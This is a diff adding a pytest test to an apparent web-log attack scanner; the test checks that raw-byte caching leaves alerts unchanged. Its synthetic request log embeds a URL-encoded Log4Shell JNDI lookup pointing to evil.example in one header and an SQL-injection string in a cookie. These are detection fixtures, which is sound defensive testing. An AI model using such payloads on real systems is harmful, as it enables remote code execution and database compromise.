@@ -90,3 +90,49 @@ def test_scan_cache_option_is_checked():
                        stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=60, check=False)
     assert p.returncode == 2
     assert b"--scan-cache wants 0.." in p.stderr
+
+
+def repeats_log(path):
+    """Browser-like requests whose cookie and headers need decoding and
+    repeat per client (the scan cache keys them by their raw bytes, not
+    split or decoded), with attacks in encoded headers and cookie values
+    that repeat too (a raw-keyed result with predicates: the evidence must
+    still be the decoded value)."""
+    import json
+    lines = []
+    for i in range(120):
+        client = i % 7
+        hs = {"Host": "example.org", "Accept": "text/html,*/*;q=0.8",
+              "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:%d.0)" % (120 + client % 3),
+              "Cookie": "session=%08x; prefs=%%7B%%22theme%%22%%3A%%22dark%%22%%7D" % (client * 7919),
+              "Sec-Fetch-Mode": "navigate"}
+        if client == 3:
+            hs["X-Api-Version"] = "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"
+        if client == 5:
+            hs["Cookie"] += "; q=%27%20or%201%3D1--"
+        if i % 11 == 0:
+            hs["Referer"] = "https://example.org/search?q=%22a%20b%22"
+        lines.append(json.dumps({"id": "r%d" % i, "method": "GET", "uri": "/p/%d" % (i % 13),
+                                 "version": "HTTP/1.1", "client": "192.0.2.%d" % client,
+                                 "headers": hs, "status": 200}))
+    with open(path, "w") as f:
+        f.write("\n".join(lines) + "\n")
+
+
+def test_raw_keyed_fields_keep_results(tmp_path):
+    """cs-header-decoded and the cookie's per-parameter views answered
+    from the cache by their raw bytes: the same alerts and evidence as
+    with the cache off."""
+    if not os.access(CLI, os.X_OK):
+        pytest.skip("CLI not built: %s" % CLI)
+    path = str(tmp_path / "repeats.jsonl")
+    repeats_log(path)
+    off = scan(0, path)
+    assert off[0] in (0, 1), off[2]
+    for field in (b'"cs-header-decoded"', b'"cs-cookie-param-value"'):
+        assert field in off[1], "no alert on %s: the comparison would not cover it" % field
+    for cache in (512, 1):
+        got = scan(cache, path)
+        assert got[0] == off[0], "exit code, --scan-cache %d" % cache
+        assert got[1] == off[1], "alerts differ, --scan-cache %d" % cache
+        assert got[2] == off[2], "summary differs, --scan-cache %d" % cache
